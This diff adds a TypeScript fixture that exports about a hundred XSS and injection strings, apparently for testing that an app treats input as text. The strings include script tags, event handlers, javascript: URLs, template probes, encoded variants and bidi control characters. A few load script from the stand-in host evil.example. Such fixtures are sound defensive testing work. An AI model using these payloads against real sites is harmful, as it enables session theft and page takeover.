@@ -1,0 +1,96 @@
+const scripts = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<script/src=//evil.example/x.js></script>',
+  '<script\n>alert(1)</script\n>',
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '--><script>alert(1)</script>',
+  ']]><script>alert(1)</script>',
+  '<!--<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script>window.__hit=1</script>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '<noscript><p title="</noscript><script>alert(1)</script>">',
+]
+const events = ['onerror', 'onload', 'onfocus autofocus', 'onmouseover', 'ontoggle open', 'onanimationstart']
+const tags = ['img src=x', 'svg', 'body', 'details', 'video src=x', 'input']
+const handlers = tags.flatMap((tag) => events.slice(0, 5).map((event) => `<${tag} ${event}=alert(1)>`))
+const addresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  ' javascript:alert(1)',
+  'javascript&colon;alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  '<a href="javascript:alert(1)">x</a>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<base href="//evil.example/">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
+]
+const templates = [
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}',
+  '#{alert(1)}',
+  '<%= alert(1) %>',
+  '{{7*7}}',
+  '{% alert(1) %}',
+  '__TITLE__',
+  '__LANGUAGE__',
+  '<!--LINK-->',
+  '<!--WORDS-->',
+  '<!--ICON-->',
+  '$&',
+  '$`',
+  "$'",
+  '$1$<name>',
+  '{"kind":"unknown"}',
+  '__proto__',
+  'constructor',
+]
+const encodings = [
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
+  '<\u0000script>alert(1)</script>',
+  '"};alert(1);var a={"b":"',
+  "';alert(1);//",
+  '";alert(1);//',
+  '`;alert(1);//',
+  String.raw`\";alert(1);//`,
+  '*/alert(1)/*',
+]
+/** Signs that end a line of a script or change the direction of writing; a field of one line refuses them. */
+const signs = [
+  'a\u2028alert(1)',
+  'a\u2029alert(1)',
+  'a\u202Egnp.exe',
+  '\u2066a\u2069',
+  '\uFEFF<b>',
+  'a\u0085b',
+  'a\nb',
+  'a\rb',
+]
+
+/** A hundred texts that would do something where they were taken for anything but text. */
+export const xssTexts: readonly string[] = [
+  ...scripts,
+  ...handlers,
+  ...addresses,
+  ...templates,
+  ...encodings,
+  ...signs,
+]
